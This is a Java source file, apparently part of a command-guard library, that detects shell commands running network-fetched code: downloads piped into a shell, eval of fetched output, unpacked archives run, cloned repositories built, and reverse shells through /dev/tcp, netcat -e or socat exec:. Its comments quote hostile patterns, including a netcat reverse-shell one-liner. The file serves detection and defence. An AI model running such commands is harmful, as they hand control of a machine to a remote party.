package io.github.providergateway.guard.internal;

import io.github.providergateway.guard.shell.Redirect;
import io.github.providergateway.guard.shell.Word;
import io.github.providergateway.guard.shell.internal.NameSet;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.HashSet;
import java.util.IdentityHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * What a command does with what it fetches from the network, program by program, for the {@code
 * remote.*} rules' predicates ({@link RemotePredicates}): code fetched and piped into a shell
 * ({@code curl … | sh}), handed to one ({@code bash <(curl …)}, {@code eval "$(curl …)"}), saved
 * and run, unpacked and run, decoded into a shell; a shell's input and output through a network
 * connection; any fetch from a host that is not this machine. The parse lists every program a
 * command runs but not which feeds which, so a download to standard output and a shell reading its
 * standard input in the same command are read as the one piped into the other. The command is read
 * once, in its order, as what a program does depends on what ran before it (a file downloaded, an
 * archive unpacked).
 */
final class RemoteFlows {
  /** What a program does with the network's code. */
  enum Flow {
    /** Runs a file of an archive the command fetched and unpacked. */
    RUNS_UNPACKED,
    /** Reads the network into a shell that an earlier program of the command feeds. */
    SHELL_THROUGH_NETWORK,
    /** Decodes text that a later shell of the command reads. */
    DECODES_INTO_SHELL,
    /** Runs a file the command fetched, or builds a repository it cloned. */
    RUNS_DOWNLOAD,
    /** Reads the network, not being a downloader, into a later shell. */
    NETWORK_INTO_SHELL,
    /** Fetches from a host that is not this machine. */
    FETCHES,
    /** Is a download a program running code is handed as a file ({@code <(curl …)}). */
    PROCESS_SUBSTITUTION,
    /** Is a download whose output a program running code is handed ({@code $(curl …)}). */
    EVAL_DOWNLOAD,
    /** Is a download to standard output that a later shell reads. */
    PIPED_INTO_SHELL
  }

  private RemoteFlows() {}

  /**
   * What a program of the call does with the network's code.
   *
   * @param scan the call
   * @param step the program
   * @return what it does; empty for most programs
   */
  static Set<Flow> of(Scan scan, Step step) {
    Map<Step, Set<Flow>> found = scan.once("RemoteFlows", RemoteFlows::read);
    Set<Flow> flows = found.isEmpty() ? null : found.get(step); // most calls: none
    return flows == null ? Set.of() : flows;
  }

  private static Map<Step, Set<Flow>> read(Scan scan) {
    Map<Step, Set<Flow>> found = new IdentityHashMap<>();
    List<Step> steps = scan.steps();
    boolean runner = false;
    int lastReader = -1;
    for (int i = 0; i < steps.size(); i++) {
      runner |= runsCode(steps.get(i));
      if (readsCodeFromInput(steps.get(i))) {
        lastReader = i;
      }
    }
    int firstReader = -1;
    for (int i = 0; i < steps.size() && firstReader < 0; i++) {
      firstReader = readsCodeFromInput(steps.get(i)) ? i : -1;
    }
    Set<String> downloaded = new HashSet<>();
    boolean printedDownload = false; // a download to standard output, which a later step may read
    boolean extracted = false; // an archive from the network unpacked: its files are unknown
    for (int i = 0; i < steps.size(); i++) {
      Step step = steps.get(i);
      Set<Flow> flows = EnumSet.noneOf(Flow.class);
      if (extracted && runsLocalFile(step)) {
        flows.add(Flow.RUNS_UNPACKED); // curl …/a.tgz | tar xz && ./a/install
      }
      if (isExtractor(step) && (printedDownload || unpacksDownload(step, downloaded))) {
        extracted = true;
      }
      if (firstReader >= 0 && firstReader < i && readsNetwork(step) && !LocalUrls.only(step)) {
        // cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f: a shell's input and output through a
        // network connection, the best-known reverse shell.
        flows.add(Flow.SHELL_THROUGH_NETWORK);
      }
      if (lastReader > i && decodes(step)) {
        flows.add(Flow.DECODES_INTO_SHELL);
      }
      // A file run is looked for only once something was saved: most commands download nothing.
      String run = downloaded.isEmpty() ? null : FedCode.runs(step);
      if (run != null && (downloaded.contains(run) || clonedRun(step, downloaded))
          || !downloaded.isEmpty() && buildsClone(scan, step, downloaded)) {
        flows.add(Flow.RUNS_DOWNLOAD);
      }
      if (!downloaded.isEmpty() && step.interpreter()) {
        for (Redirect redirect : step.invocation().redirects()) {
          if (redirect.operator().equals("<")
              && downloaded.contains(base(redirect.target().text()))) {
            flows.add(Flow.RUNS_DOWNLOAD); // bash < f, f just downloaded
          }
        }
      }
      if (!downloaded.isEmpty()
          && (step.program().equals("mv")
              || step.program().equals("cp")
              || step.program().equals("install"))) {
        List<Word> pos = Argv.of(step.args(), "tSm").positionals();
        if (pos.size() >= 2 && downloaded.contains(base(pos.get(0).text()))) {
          downloaded.add(base(pos.get(pos.size() - 1).text())); // a download renamed is still one
        }
      }
      if (step.program().equals("git") && GitCommand.subcommandOf(step.args()).equals("clone")) {
        downloaded.addAll(cloneFolder(step));
      }
      if (!step.is(ProgramKind.DOWNLOADER)) {
        if (lastReader > i && readsNetwork(step)) {
          flows.add(Flow.NETWORK_INTO_SHELL);
        }
      } else {
        if (!LocalUrls.only(step)) {
          flows.add(Flow.FETCHES);
        }
        downloaded.addAll(savedAs(step));
        printedDownload |= toStandardOutput(step);
        if (step.reachedBy("<(") && runner) {
          flows.add(Flow.PROCESS_SUBSTITUTION);
        } else if ((step.reachedBy("$(") || step.reachedBy("`")) && runner) {
          flows.add(Flow.EVAL_DOWNLOAD);
        } else if (lastReader > i && toStandardOutput(step)) {
          flows.add(Flow.PIPED_INTO_SHELL);
        }
      }
      if (!flows.isEmpty()) {
        found.put(step, flows);
      }
    }
    return found;
  }

  /** A program that turns text into other text: base64 -d, xxd -r, tr, rev, gunzip, … */
  private static boolean decodes(Step step) {
    Argv argv = Argv.of(step.args(), "");
    return switch (step.program()) {
      case "base64", "base32", "basenc" -> argv.has('d') || argv.has('D') || argv.has("decode");
      case "xxd" -> argv.has('r') || argv.has("revert");
      case "openssl" ->
          argv.has('d') && step.invocation().args().contains("enc")
              || step.invocation().args().contains("base64") && argv.has('d');
      case "tr", "rev", "uudecode", "gunzip", "zcat", "bunzip2", "xzcat", "unxz", "zstdcat" -> true;
      case "gzip", "bzip2", "xz", "zstd" -> argv.has('d') || argv.has("decompress");
      default -> false;
    };
  }

  /** The prefix that marks a cloned repository among the downloaded names. */
  private static final String CLONED = "clone:";

  /**
   * The folder a {@code git clone} of a remote repository makes, marked as cloned: its name, or the
   * repository's name from the URL.
   */
  private static List<String> cloneFolder(Step step) {
    List<Word> pos =
        Argv.of(
                step.args(),
                "bcoju",
                "branch",
                "origin",
                "depth",
                "config",
                "template",
                "reference",
                "separate-git-dir",
                "upload-pack",
                "jobs")
            .positionals();
    // positionals: clone URL [DIR]
    int at = pos.size() > 0 && pos.get(0).text().equals("clone") ? 1 : 0;
    if (at >= pos.size()) {
      return List.of();
    }
    String url = pos.get(at).text();
    if (!url.contains("://") && !url.contains("@")) {
      return List.of(); // a local path: nothing from the network
    }
    String folder = at + 1 < pos.size() ? pos.get(at + 1).text() : base(url);
    if (folder.endsWith(".git")) {
      folder = folder.substring(0, folder.length() - 4);
    }
    return List.of(CLONED + base(folder), CLONED + folder);
  }

  /** Whether a program runs a file out of a repository cloned in this command. */
  private static boolean clonedRun(Step step, Set<String> downloaded) {
    List<Word> words = step.invocation().words();
    for (int i = 0; i < words.size() && i < 3; i++) {
      String t = words.get(i).text();
      for (String name : downloaded) {
        if (name.startsWith(CLONED)) {
          String folder = name.substring(CLONED.length());
          if (t.startsWith(folder + "/") || t.contains("/" + folder + "/")) {
            return true;
          }
        }
      }
    }
    return false;
  }

  /**
   * Programs that run a folder's own code when started in it or pointed at it: its build file
   * (Makefile, package.json's scripts, setup.py, build.rs), its tasks.
   */
  private static final Set<String> BUILDERS =
      NameSet.of(
          "make", "gmake", "cmake", "ninja", "meson", "npm", "pnpm", "yarn", "bun", "pip", "pip3",
          "cargo", "go", "gradle", "mvn", "ant", "rake", "bundle", "just", "task", "poetry", "uv",
          "pipx");

  /**
   * Whether a program runs the code of a repository cloned in this command: a builder in its folder
   * ({@code cd st && make install}) or given it ({@code make -C /tmp/st}, {@code pip install
   * ./st}), or a script of its own started there ({@code cd st && ./install.sh}).
   */
  private static boolean buildsClone(Scan scan, Step step, Set<String> downloaded) {
    boolean builder = BUILDERS.contains(step.program());
    List<Word> words = step.invocation().words();
    if (!builder
        && !step.interpreter()
        && (words.isEmpty() || !words.get(0).text().startsWith("./"))) {
      return false;
    }
    Path start = scan.call().cwd();
    for (Path cwd : step.cwds()) {
      // A folder changed into: the call's own folder may share a clone's name (/work/app).
      if (cwd != null && !cwd.equals(start) && cloned(cwd.toString(), downloaded)) {
        return true;
      }
    }
    for (int i = 0; builder && i < step.args().size(); i++) {
      String t = step.args().get(i).text();
      if (cloned(t.startsWith("--directory=") ? t.substring(12) : t, downloaded)) {
        return true;
      }
    }
    return false;
  }

  /** Whether {@code path} names a folder cloned in this command (by its name or its path). */
  private static boolean cloned(String path, Set<String> downloaded) {
    String p =
        path.endsWith("/") && path.length() > 1 ? path.substring(0, path.length() - 1) : path;
    for (String name : downloaded) {
      if (name.startsWith(CLONED)) {
        String folder = name.substring(CLONED.length());
        if (!folder.isEmpty()
            && (p.equals(folder) || p.endsWith("/" + base(folder)) && base(folder).length() > 0)) {
          return true;
        }
      }
    }
    return false;
  }

  /**
   * {@code deno run URL}: a script fetched and run.
   *
   * @param step the program
   * @return whether it runs a URL
   */
  static boolean runsFromNetwork(Step step) {
    List<Word> args = step.args();
    if (args.isEmpty() || !args.get(0).text().equals("run")) {
      return false;
    }
    for (Word w : args) {
      if (w.text().startsWith("https://") || w.text().startsWith("http://")) {
        return true;
      }
    }
    return false;
  }

  /** Whether a program unpacks an archive: tar -x, unzip, bsdtar, 7z x, cpio -i. */
  private static boolean isExtractor(Step step) {
    return switch (step.program()) {
      case "unzip", "bsdtar", "7z", "7za", "unrar", "cpio" -> true;
      case "tar", "gtar" -> {
        List<String> args = step.invocation().args();
        String first = args.isEmpty() ? "" : args.get(0);
        yield args.contains("--extract")
            || args.contains("--get")
            || !first.startsWith("--") && first.indexOf('x') >= 0;
      }
      default -> false;
    };
  }

  /** Whether an extractor is given a file this command downloaded. */
  private static boolean unpacksDownload(Step step, Set<String> downloaded) {
    for (Word word : step.args()) {
      if (downloaded.contains(base(word.text()))) {
        return true;
      }
    }
    return false;
  }

  /**
   * Whether a program run is a file of a folder named relatively ({@code ./a/install}, {@code
   * a/bin/tool}), or an interpreter given one: what an archive just unpacked may hold.
   */
  private static boolean runsLocalFile(Step step) {
    List<Word> words = step.invocation().words();
    if (words.isEmpty()) {
      return false;
    }
    String first = words.get(0).text();
    if (first.indexOf('/') > 0 || first.startsWith("./")) {
      return true;
    }
    if (step.interpreter()) {
      for (Word word : words.subList(1, words.size())) {
        String t = word.text();
        if (!t.startsWith("-")) {
          return !t.startsWith("/");
        }
      }
    }
    return false;
  }

  /** A host with a dot and a path, as curl and wget take a URL without its scheme. */
  private static final Pattern SCHEMELESS_URL =
      Pattern.compile("[A-Za-z0-9-]+(\\.[A-Za-z0-9-]+)+(:[0-9]+)?/[^\\s]*");

  /** The files a download is saved as, without their folder: -o f, -O, wget's default. */
  private static List<String> savedAs(Step step) {
    List<String> files = new ArrayList<>();
    List<Word> args = step.args();
    String url = null;
    boolean remoteName = false;
    for (int i = 0; i < args.size(); i++) {
      String t = args.get(i).text();
      String next = i + 1 < args.size() ? args.get(i + 1).text() : null;
      char output = step.program().equals("wget") ? 'O' : 'o';
      int bundled = t.startsWith("-") && !t.startsWith("--") ? t.indexOf(output) : -1;
      if ((t.equals("-o") || t.equals("--output")) && next != null) {
        files.add(base(next));
      } else if (bundled > 1 && (step.program().equals("curl") || step.program().equals("wget"))) {
        // -sSLo FILE, -qO FILE, -oFILE: the option last in a bundle takes the next word.
        String file = bundled + 1 < t.length() ? t.substring(bundled + 1) : next;
        if (file != null && !file.equals("-")) {
          files.add(base(file));
        }
      } else if (t.equals("-O") && step.program().equals("wget") && next != null) {
        files.add(base(next));
      } else if (t.startsWith("--output-document=") || t.startsWith("--output=")) {
        files.add(base(t.substring(t.indexOf('=') + 1)));
      } else if (t.equals("-O")
          || t.equals("--remote-name")
          || t.startsWith("-")
              && !t.startsWith("--")
              && t.indexOf('O') > 0
              && step.program().equals("curl")) {
        remoteName = true;
      } else if (t.contains("://") || PatternLiterals.matches(SCHEMELESS_URL, t)) {
        url = t; // wget x.io/a.sh and curl -O x.io/a.sh take http:// as said
      }
    }
    if (url != null && (remoteName || step.program().equals("wget") && files.isEmpty())) {
      String path = url.substring(url.indexOf("://") < 0 ? 0 : url.indexOf("://") + 3);
      int query = path.indexOf('?');
      files.add(base(query < 0 ? path : path.substring(0, query)));
    }
    for (Redirect redirect : step.invocation().redirects()) {
      if (redirect.writes()) {
        files.add(base(redirect.target().text()));
      }
    }
    return files;
  }

  private static String base(String path) {
    return path.substring(path.lastIndexOf('/') + 1);
  }

  /**
   * A program that runs code it is handed: a shell or interpreter, {@code eval}, {@code source}.
   */
  private static boolean runsCode(Step step) {
    String program = step.program();
    return step.interpreter()
        || switch (program) {
          case "eval", "source", ".", "exec" -> true;
          default -> false;
        };
  }

  /** A shell or interpreter with no script named: it runs what comes on standard input. */
  private static boolean readsCodeFromInput(Step step) {
    String program = step.program();
    if (!step.interpreter()) {
      return runsInputLater(step);
    }
    Argv argv = Argv.of(step.args(), "", "init-file", "rcfile");
    if (argv.has('c') || argv.has('e') || argv.has('m') || argv.has("eval")) {
      return false;
    }
    List<Word> pos = argv.positionals();
    if (program.equals("busybox")) {
      return !pos.isEmpty() && ProgramKind.SHELL.names(pos.get(0).text()) && pos.size() == 1;
    }
    return pos.isEmpty()
        || argv.has('s')
        || pos.get(0).text().equals("-")
        || pos.get(0).text().equals("/dev/stdin");
  }

  /**
   * A program that is no interpreter but runs its standard input as shell code, now or later:
   * {@code source /dev/stdin}, {@code at} and {@code batch} jobs, {@code crontab -}, {@code
   * parallel} with no command (issue 60: programs that run programs).
   */
  private static boolean runsInputLater(Step step) {
    List<Word> args = step.args();
    return switch (step.program()) {
      case "source", "." ->
          !args.isEmpty()
              && (args.get(0).text().equals("/dev/stdin")
                  || args.get(0).text().equals("-")
                  || args.get(0).text().equals("/proc/self/fd/0"));
      case "at", "batch" -> !Argv.of(args, "qftM").has('f') && !Argv.of(args, "qftM").has('l');
      case "crontab" -> args.isEmpty() || args.get(args.size() - 1).text().equals("-");
      case "parallel" -> args.isEmpty() || args.get(0).text().startsWith("-");
      // tclsh, expect, ed and sqlite3 read their commands from standard input; make -f - a
      // makefile; awk's {system($0)} runs each line it reads.
      case "tclsh", "wish", "expect", "ed", "ex" ->
          Argv.of(args, "").positionals().isEmpty() || step.program().startsWith("e");
      case "sqlite3", "sqlite" -> Argv.of(args, "").positionals().size() <= 1;
      case "make", "gmake" -> {
        List<String> texts = step.invocation().args();
        int f = Math.max(texts.indexOf("-f"), texts.indexOf("--file"));
        yield f >= 0
            && f + 1 < texts.size()
            && (texts.get(f + 1).equals("-") || texts.get(f + 1).equals("/dev/stdin"));
      }
      case "awk", "gawk", "mawk", "nawk" -> {
        String code = InterpreterCode.awk(step);
        yield code != null
            && (code.contains("system($0)")
                || code.contains("| \"sh\"")
                || code.contains("|\"sh\""));
      }
      // xargs … sh -c: the text it reads becomes the shell's script (xargs -0 sh -c).
      case "xargs" -> xargsFeedsAShell(args);
      default -> false;
    };
  }

  /** Whether xargs runs a shell whose -c string is the text it reads ({@code xargs -0 sh -c}). */
  private static boolean xargsFeedsAShell(List<Word> args) {
    for (int i = 0; i < args.size(); i++) {
      String t = args.get(i).text();
      if (ProgramKind.SHELL.names(t.substring(t.lastIndexOf('/') + 1))) {
        return i + 1 < args.size() && args.get(i + 1).text().equals("-c") && i + 2 >= args.size();
      }
    }
    return false;
  }

  /** A program that reads from the network and prints what it read: netcat's kin. */
  private static boolean readsNetwork(Step step) {
    return switch (step.program()) {
      case "nc", "ncat", "netcat", "telnet" -> true;
      case "socat" -> true;
      case "openssl" -> step.args().size() > 0 && step.args().get(0).text().equals("s_client");
      default -> false;
    };
  }

  private static boolean toStandardOutput(Step step) {
    Argv argv = Argv.of(step.args(), "oOdHuAeXwmrKTEF", "output", "output-document");
    return switch (step.program()) {
      case "wget" -> "-".equals(argv.value('O')) || "-".equals(argv.value("output-document"));
      // -o - and --output - name standard output itself: still piped on.
      case "curl" ->
          (!argv.has('o') || "-".equals(argv.value('o')))
              && (!argv.has("output") || "-".equals(argv.value("output")))
              && !argv.has('O')
              && !argv.has("remote-name")
              && !argv.has("remote-name-all");
      default ->
          !argv.has('d')
              && !argv.has("download")
              && (!argv.has('o') || "-".equals(argv.value('o'))); // fetch -o -: standard output
    };
  }

  /**
   * Whether a program gives a shell to a network connection: a redirect to {@code /dev/tcp/…},
   * netcat's {@code -e}, socat's {@code exec:}, or {@code /dev/tcp/} among its arguments.
   *
   * @param step the program
   * @return whether it does
   */
  static boolean reverseShell(Step step) {
    List<Redirect> redirects = step.invocation().redirects();
    for (int i = 0; i < redirects.size(); i++) { // indexed: most programs have none
      Redirect redirect = redirects.get(i);
      String target = redirect.target().text();
      if (target.startsWith("/dev/tcp/") || target.startsWith("/dev/udp/")) {
        return true;
      }
    }
    String program = step.program();
    boolean netcat = switch (program) { // one switch, not three comparisons a program
          case "nc", "ncat", "netcat" -> true;
          default -> false;
        };
    if (netcat) {
      Argv argv = Argv.of(step.args(), "");
      if (argv.has('e') || argv.has('c') || argv.has("exec") || argv.has("sh-exec")) {
        return true;
      }
    }
    if (program.equals("socat")) {
      for (Word arg : step.args()) {
        String lower = arg.text().toLowerCase(Locale.ROOT);
        if (lower.startsWith("exec:") || lower.startsWith("system:")) {
          return true;
        }
      }
    }
    List<Word> words = step.invocation().words(); // the words, not a view of the arguments
    for (int i = 1; i < words.size(); i++) { // every program's: no view or iterator made
      String arg = words.get(i).text();
      // Too short to hold either (most arguments: -q, HEAD, src), then one search for what both
      // share: most arguments hold neither.
      if (arg.length() >= "/dev/tcp/".length()
          && arg.contains("/dev/")
          && (arg.contains("/dev/tcp/") || arg.contains("/dev/udp/"))) {
        return true;
      }
    }
    return false;
  }
}
